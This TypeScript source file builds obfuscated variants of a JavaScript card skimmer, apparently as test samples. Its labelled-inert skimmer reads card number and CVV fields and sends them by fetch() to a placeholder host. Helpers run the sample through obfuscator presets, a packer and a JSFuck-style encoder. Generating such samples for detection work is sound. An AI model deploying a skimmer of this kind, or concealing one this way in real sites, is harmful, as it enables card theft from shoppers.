import obfuscator from 'javascript-obfuscator';
import type { ObfuscatorOptions } from 'javascript-obfuscator';

/** An inert skimmer: reads a card field, sends it to a host that can't exist. */
export const skimmer = `
function collect() {
  var card = document.querySelector('#cc-number').value;
  var code = document.querySelector('#cc-cvv').value;
  fetch('https://stats.invalid/collect?d=' + encodeURIComponent(card + '|' + code));
}
document.querySelector('#place-order').addEventListener('click', collect);
console.log('ready to collect orders', 'and to say so at length');
`;

export const obfuscate = (text: string, options: ObfuscatorOptions): string =>
  obfuscator.obfuscate(text, { seed: 7, ...options }).getObfuscatedCode();

/** The obfuscator's settings that hide most, alone and together. */
export const settings: Record<string, ObfuscatorOptions> = {
  'a list of texts': { stringArray: true, stringArrayThreshold: 1 },
  'a list in base64': { stringArray: true, stringArrayThreshold: 1, stringArrayEncoding: ['base64'] },
  'a list in RC4, shuffled and rotated': {
    stringArray: true,
    stringArrayThreshold: 1,
    stringArrayEncoding: ['rc4'],
    stringArrayShuffle: true,
    stringArrayRotate: true,
    stringArrayWrappersCount: 3,
    stringArrayWrappersType: 'function',
  },
  'flattened control flow and dead code': {
    stringArray: true,
    stringArrayThreshold: 1,
    controlFlowFlattening: true,
    controlFlowFlatteningThreshold: 1,
    deadCodeInjection: true,
    deadCodeInjectionThreshold: 1,
  },
  'split texts and self-defence': {
    stringArray: true,
    stringArrayThreshold: 1,
    splitStrings: true,
    splitStringsChunkLength: 4,
    selfDefending: true,
  },
};

/** Dean Edwards' packer with base 10, as packed scripts carry it. */
export function pack(text: string): string {
  const words = [...new Set(text.match(/\b\w+\b/g))];
  const payload = text.replaceAll(/\b\w+\b/g, (word) => String(words.indexOf(word)));
  const quoted = payload.replaceAll('\\', '\\\\').replaceAll("'", "\\'").replaceAll('\n', ' ');
  return `eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('${quoted}',10,${words.length},'${words.join('|')}'.split('|'),0,{}))`;
}

/** Code of lower-case letters, parentheses and spaces, written in six symbols as JSFuck does. */
export function writeInSymbols(text: string): string {
  const digit = (value: number): string =>
    value === 0 ? '+[]' : Array<string>(value).fill('+!+[]').join('');
  const number = (value: number): string =>
    value < 10
      ? `(${digit(value)})`
      : `+(${Array.from(String(value), (one) => `[${digit(Number(one))}]`).join('+')})`;
  const from = (source: string, index: number): string => `(${source})[${number(index)}]`;
  const letters: Record<string, string> = {};
  for (const [source, shown] of [
    ['![]+[]', 'false'],
    ['!![]+[]', 'true'],
    ['[][[]]+[]', 'undefined'],
  ] as const)
    Array.from(shown).forEach((letter, index) => (letters[letter] ??= from(source, index)));
  const spell = (word: string): string => Array.from(word, (letter) => letters[letter]!).join('+');
  const method = `[][${spell('flat')}]+[]`;
  Array.from('function flat() {').forEach((letter, index) => (letters[letter] ??= from(method, index)));
  const string = `[]+([]+[])[${spell('constructor')}]`;
  Array.from('function String').forEach((letter, index) => (letters[letter] ??= from(string, index)));
  for (const letter of 'abcdefghijklmnopqrstuvwxyz')
    letters[letter] ??= `(${number(parseInt(letter, 36))})[${spell('toString')}](${number(36)})`;
  return `[][${spell('flat')}][${spell('constructor')}](${spell(text)})()`;
}
